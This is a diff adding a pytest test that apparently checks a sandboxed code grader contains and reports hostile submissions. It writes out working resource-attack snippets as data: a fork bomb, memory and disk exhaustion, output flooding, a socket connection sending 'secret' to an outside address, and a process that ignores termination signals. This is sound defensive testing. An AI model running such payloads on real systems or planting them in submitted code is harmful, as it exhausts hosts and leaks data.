@@ -165,3 +165,36 @@ def test_honest_solution_with_its_own_pytest_setup_scores_full_without_flags(
     })
     result = grade(engine, python_image, tree, tmp_path / "out")
     assert (result.status, result.score, result.flags) == (Status.GRADED, 100, [])
+
+
+# --- resource attacks through the whole pipeline: contained, reported, nothing leaks ----------
+
+RESOURCE_ATTACKS: dict[str, tuple[str, set[str]]] = {
+    # name: (code run when slugify is called, flags the reviewer must see)
+    "fork-bomb": ("import os\n    while True:\n        try:\n            os.fork()\n        except OSError:\n            pass", set()),
+    "memory-bomb": ("hoard = []\n    while True:\n        hoard.append(bytearray(2**24))", {"memory-limit"}),
+    "disk-fill": ("with open('/tmp/fill', 'wb') as f:\n        while True:\n            f.write(b'0' * 2**20)", set()),
+    "output-flood": ("import os\n    while True:\n        os.write(1, b'x' * 65536)", {"output-truncated"}),
+    "network-exfiltration": ("import socket\n    socket.create_connection(('1.1.1.1', 443), timeout=2).sendall(b'secret')", set()),
+    "ignores-signals-and-sleeps": ("import signal, time\n    for s in (signal.SIGINT, signal.SIGTERM):\n        signal.signal(s, signal.SIG_IGN)\n    while True:\n        time.sleep(1)", {"timeout"}),
+}
+
+
+@pytest.mark.parametrize("attack", sorted(RESOURCE_ATTACKS))
+def test_resource_attack_is_contained_and_reported(attack: str, engine: Engine, python_image: ImageRef,
+                                                   tmp_path: Path) -> None:
+    from tests.conftest import tiny_challenge_with
+
+    body, expected_flags = RESOURCE_ATTACKS[attack]
+    solution = "import re\n\n\ndef add(a, b):\n    return a + b\n\n\ndef slugify(text):\n    " + body + "\n"
+    tree = write_tree(tmp_path / "s", {"solution.py": solution})
+    challenge = tiny_challenge_with(tmp_path, timeout_seconds=8, grace_seconds=2, test_timeout_seconds=4,
+                                    memory_mb=128, pids=64, output_kb=64, scratch_mb=16)
+    result = grade_submission(challenge=load_challenge(challenge), source=str(tree), out_dir=tmp_path / "out",
+                              engine=engine, image=python_image)
+    # add() is honest: its 60 points stand whenever a report exists; slugify never scores.
+    assert result.score in (0, 60)
+    assert result.score == (60 if result.status is not Status.ERROR else 0)
+    assert expected_flags <= {f.code for f in result.flags}
+    assert result.timings.sandbox_seconds < 30  # the deadline held
+    assert len((tmp_path / "out" / "output.log").read_bytes()) <= 64 * 1024 + 100
